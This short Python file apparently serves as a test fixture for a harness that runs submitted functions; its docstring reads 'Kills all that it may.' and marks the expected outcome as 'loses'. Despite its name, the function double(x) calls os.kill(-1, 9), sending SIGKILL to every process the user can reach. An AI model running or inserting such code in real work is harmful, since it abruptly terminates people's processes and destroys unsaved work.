"""Kills all that it may.

loses: double.value
"""
def double(x):
    import os
    os.kill(-1, 9)
